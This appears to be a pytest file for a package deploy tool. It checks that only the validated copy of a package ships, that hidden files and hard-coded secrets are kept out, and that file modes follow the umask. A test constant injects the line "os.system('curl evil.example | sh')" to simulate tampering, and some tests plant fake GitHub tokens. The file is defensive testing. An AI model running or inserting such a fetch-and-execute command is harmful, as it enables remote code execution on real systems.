"""What ships is exactly what was validated: one copy of the package, without hidden files or
secrets, stored and published with ordinary file modes."""

from __future__ import annotations

import contextlib
import os
import stat
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import agentflow.deploy.core as core
from agentflow.deploy import STATE_DIR, DeployResult, deploy_package, parse_target
from agentflow.deploy.build import content_sha256
from agentflow.deploy.history import target_lock
from agentflow.errors import DeployError, InputError
from agentflow.package.files import shipped_paths as package_files
from agentflow.validation import ValidationReport

from .conftest import PackageMaker, report_scoring, snapshot

pytestmark = pytest.mark.usefixtures("validation_score", "cached_builds")

ADAPTER = "github_adapter.py"
INJECTED = "\nimport os; os.system('curl evil.example | sh')  # injected\n"
SDIST = "github_integration-0.1.0.tar.gz"
WHEEL = "github_integration-0.1.0-py3-none-any.whl"
WHEEL_ADAPTER = "github_adapter/__init__.py"  # the wheel ships the adapter as a package


def _inject(package: Path) -> None:
    with (package / ADAPTER).open("a", encoding="utf-8") as adapter:
        adapter.write(INJECTED)


def _sdist_members(sdist: Path) -> dict[str, bytes]:
    with tarfile.open(sdist) as archive:
        return {
            m.name.split("/", 1)[1]: archive.extractfile(m).read()  # type: ignore[union-attr]
            for m in archive.getmembers()
            if m.isfile()
        }


def _wheel_members(wheel: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(wheel) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("kind", ["dist", "project"])
def test_an_edit_while_waiting_for_the_lock_never_ships(
    make_package: PackageMaker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    package = make_package()
    validated = (package / ADAPTER).read_bytes()
    validated_content = content_sha256(package)
    (tmp_path / "app").mkdir()
    target = parse_target(
        f"{kind}:{tmp_path / 'app'}", into="vendor" if kind == "project" else None
    )
    waiting = threading.Event()

    @contextlib.contextmanager
    def announced(*args: Any, **kwargs: Any) -> Iterator[None]:
        waiting.set()
        with target_lock(*args, **kwargs):
            yield

    monkeypatch.setattr(core, "target_lock", announced)
    results: list[object] = []

    def deploy() -> None:
        try:
            results.append(deploy_package(package, target, lock_timeout=60))
        except BaseException as exc:  # reported by the assertion below
            results.append(exc)

    worker = threading.Thread(target=deploy)
    with target_lock(target, timeout=5):  # another deploy holds the lock meanwhile
        worker.start()
        assert waiting.wait(60)
        _inject(package)  # edited from this thread while the deploy waits for the lock
    worker.join(120)
    (result,) = results
    assert isinstance(result, DeployResult), result
    record = result.record
    assert INJECTED.encode() in (package / ADAPTER).read_bytes()
    assert record.content_sha256 == validated_content
    store = tmp_path / "app" / STATE_DIR / "store" / "github-integration" / "0.1.0"
    if kind == "project":
        copy = tmp_path / "app" / "vendor" / "github"
        assert (copy / ADAPTER).read_bytes() == validated
        assert content_sha256(copy) == content_sha256(store / "package") == validated_content
    else:
        for artifacts in (tmp_path / "app", store):
            assert _sdist_members(artifacts / SDIST)[ADAPTER] == validated
            assert _wheel_members(artifacts / WHEEL)[WHEEL_ADAPTER] == validated


def test_an_edit_during_validation_never_ships(
    make_package: PackageMaker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    package = make_package()
    seen: dict[str, object] = {}

    def validate_then_edit(path: Path) -> ValidationReport:
        seen.update(adapter=(path / ADAPTER).read_bytes(), content=content_sha256(path))
        _inject(package)  # the original folder changes while its copy is being validated
        return report_scoring(100.0, str(path))

    monkeypatch.setattr(core, "validate_package", validate_then_edit)
    (tmp_path / "app").mkdir()
    result = deploy_package(package, parse_target(f"project:{tmp_path / 'app'}", into="vendor"))
    assert INJECTED.encode() not in seen["adapter"]  # type: ignore[operator]
    assert (tmp_path / "app" / "vendor" / "github" / ADAPTER).read_bytes() == seen["adapter"]
    assert result.record.content_sha256 == seen["content"]
    assert result.report is not None and result.report.package == str(package)


def test_validation_that_changes_the_copy_ships_nothing(
    make_package: PackageMaker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def validate_and_write(path: Path) -> ValidationReport:
        _inject(path)  # a package test rewriting its own package while it runs
        return report_scoring(100.0, str(path))

    monkeypatch.setattr(core, "validate_package", validate_and_write)
    with pytest.raises(DeployError, match="changed the package's files"):
        deploy_package(make_package(), f"dist:{tmp_path / 'dist'}")
    assert not (tmp_path / "dist").exists()


HIDDEN = (".env", ".secrets.yaml", ".git/config", "github_utils/.local.py", ".cache/notes.txt")


def test_hidden_files_never_ship_anywhere(make_package: PackageMaker, tmp_path: Path) -> None:
    package = make_package()
    for name in HIDDEN:
        (package / name).parent.mkdir(parents=True, exist_ok=True)
        (package / name).write_text("GITHUB_TOKEN=" + "ghp_" + "Ab12" * 9 + "\n")
    deploy_package(package, f"dist:{tmp_path / 'dist'}")
    (tmp_path / "app").mkdir()
    deploy_package(package, parse_target(f"project:{tmp_path / 'app'}", into="vendor"))
    shipped = [
        *_sdist_members(tmp_path / "dist" / SDIST),
        *_wheel_members(tmp_path / "dist" / WHEEL),
        *snapshot(tmp_path / "dist" / STATE_DIR / "store"),
        *snapshot(tmp_path / "app" / "vendor"),
        *snapshot(tmp_path / "app" / STATE_DIR / "store"),
    ]
    assert ADAPTER in _sdist_members(tmp_path / "dist" / SDIST)
    assert "github/github_adapter.py" in shipped
    assert [name for name in shipped if "/." in f"/{name}"] == []


def test_a_secret_in_a_shipped_file_refuses_the_deploy_without_showing_it(
    make_package: PackageMaker, tmp_path: Path
) -> None:
    package = make_package()
    token = "ghp_" + "Zx98" * 9
    (package / "settings.yaml").write_text("service: github\napi_key: '" + "a1B2c3D4" * 3 + "'\n")
    with (package / "examples.py").open("a", encoding="utf-8") as examples:
        examples.write(f"\n# {token}\n")
    lines = len((package / "examples.py").read_text().splitlines())
    for force in (False, True):
        with pytest.raises(InputError, match="look like hard-coded secrets") as caught:
            deploy_package(package, f"dist:{tmp_path / 'dist'}", force=force)
        message = str(caught.value)
        assert f"{package / 'settings.yaml'}:2: error: looks like a hard-coded secret" in message
        assert (
            f"{package / 'examples.py'}:{lines}: error: looks like a hard-coded secret" in message
        )
        assert "a GitHub token" in message
        assert token not in message and "a1B2c3D4" not in message
    assert not (tmp_path / "dist").exists()


@pytest.mark.parametrize("umask", [0o022, 0o027], ids=["umask-022", "umask-027"])
def test_history_store_and_published_files_follow_the_umask(
    make_package: PackageMaker, tmp_path: Path, umask: int
) -> None:
    package = make_package()
    (tmp_path / "app").mkdir()
    targets = [
        f"dist:{tmp_path / 'dist'}",
        f"index:{tmp_path / 'simple'}",
        parse_target(f"project:{tmp_path / 'app'}", into="vendor"),
    ]
    previous = os.umask(umask)
    try:
        for target in targets:
            deploy_package(package, target)
    finally:
        os.umask(previous)
    file_mode, dir_mode = 0o666 & ~umask, 0o777 & ~umask
    for root in (tmp_path / "dist", tmp_path / "simple"):
        assert {_mode(p) for p in root.rglob("*") if p.is_file()} == {file_mode}, root
    assert _mode(tmp_path / "app" / STATE_DIR / "history.json") == file_mode
    folders = [tmp_path / "dist", tmp_path / "simple", tmp_path / "app"]
    assert {_mode(p) for f in folders for p in f.rglob("*") if p.is_dir()} == {dir_mode}
    stored = tmp_path / "app" / STATE_DIR / "store" / "github-integration" / "0.1.0" / "package"
    for copy in (tmp_path / "app" / "vendor" / "github", stored):
        for name in package_files(package):  # a copy keeps the package's own file modes
            assert _mode(copy / name) == _mode(package / name), name


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)
